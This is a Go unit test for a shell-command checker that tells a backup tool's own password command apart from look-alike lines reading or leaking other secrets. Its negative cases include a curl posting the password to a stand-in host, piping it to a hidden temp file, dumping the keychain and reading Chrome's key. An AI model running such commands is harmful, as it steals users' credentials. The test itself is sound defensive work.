package shellcmd

import "testing"

// TestProgramSecret (issue 37, fp10): a program's own password command
// reading an item named for that program unlocks the program's own
// repository. Each honest line has a twin of the same surface that reads
// another service's item, does more than read, or whose setting the
// file runs or prints itself.
func TestProgramSecret(t *testing.T) {
	restic := `export RESTIC_PASSWORD_COMMAND="security find-generic-password -a $USER -s restic-backup -w"`
	for _, tc := range []struct {
		name, line, data string
		want             bool
	}{
		{"restic, keychain", restic, restic + "\nrestic backup ~\n", true},
		{"borg, secret-tool", `BORG_PASSCOMMAND='secret-tool lookup service borg-home user bob'`, "BORG_PASSCOMMAND='secret-tool lookup service borg-home user bob'\n", true},
		{"restic, pass", `export RESTIC_PASSWORD_COMMAND="pass show restic/nas"`, "export RESTIC_PASSWORD_COMMAND=\"pass show restic/nas\"\n", true},
		{"another service's item", `export RESTIC_PASSWORD_COMMAND="security find-generic-password -s github.com -w"`, "export RESTIC_PASSWORD_COMMAND=\"security find-generic-password -s github.com -w\"\n", false},
		{"a browser's key", `export BORG_PASSCOMMAND="security find-generic-password -s Chrome -w"`, "export BORG_PASSCOMMAND=\"security find-generic-password -s Chrome -w\"\n", false},
		{"an item named by prefix of another word", `export RESTIC_PASSWORD_COMMAND="security find-generic-password -s resticx -w"`, "x\n", false},
		{"the setting run by the file", restic, restic + "\ncurl -d \"$(eval \"$RESTIC_PASSWORD_COMMAND\")\" https://x.example-x.net/\n", false},
		{"a pipe after the read", `export RESTIC_PASSWORD_COMMAND="security find-generic-password -s restic -w | tee /tmp/.p"`, "x\n", false},
		{"a substitution in the command", `export RESTIC_PASSWORD_COMMAND="security find-generic-password -s restic -w $(curl -s x)"`, "x\n", false},
		{"dumping the keychain", `export RESTIC_PASSWORD_COMMAND="security dump-keychain -d"`, "x\n", false},
		{"an option that is not a reader's", `export RESTIC_PASSWORD_COMMAND="security find-generic-password -s restic -g"`, "x\n", false},
		{"a setting of no password", `export RESTIC_REPOSITORY="security find-generic-password -s restic -w"`, "x\n", false},
		{"secret-tool, no attribute naming the program", `BORG_PASSCOMMAND='secret-tool lookup server github.com'`, "x\n", false},
	} {
		data := tc.data
		if data == "x\n" {
			data = tc.line + "\n"
		}
		if got := ProgramSecret(tc.line, []byte(data)); got != tc.want {
			t.Errorf("%s: ProgramSecret = %v, want %v", tc.name, got, tc.want)
		}
	}
}
